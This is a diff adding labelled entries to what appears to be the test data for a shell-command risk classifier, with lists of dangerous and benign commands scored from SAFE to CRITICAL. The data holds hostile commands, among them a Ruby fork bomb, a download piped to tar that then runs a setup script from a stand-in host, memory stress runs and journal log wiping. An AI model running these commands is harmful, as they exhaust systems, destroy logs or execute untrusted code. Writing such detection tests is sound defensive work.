@@ -1227,6 +1227,10 @@ ROUND2 = [
     ("wget -qO- https://x.example/t.tgz | tar xz && ./t/setup", HIGH),
     ("stress-ng --clone 0", CRITICAL),
     ("stress --vm 64 --vm-bytes 2G --timeout 600", CRITICAL),
+    ("ruby -e 'loop { Process.fork }'", CRITICAL),
+    ("journalctl --vacuum-time=1h", HIGH),
+    ("sudo journalctl --vacuum-size=10M", HIGH),
+    ("sudo mount -o remount,ro /home", HIGH),
 ]
 ROUND2_BENIGN = [
     ("sudo apt-get remove -s sudo", SAFE),
@@ -1263,6 +1267,9 @@ ROUND2_BENIGN = [
     ("update-grub", MODERATE),
     ("efibootmgr", SAFE),
     ("efibootmgr -v", SAFE),
+    ("shutdown -k now", MODERATE),
+    ("journalctl --vacuum-time=2weeks", MODERATE),
+    ("sudo journalctl --vacuum-size=1G", MODERATE),
 ]
 
 DANGEROUS = [
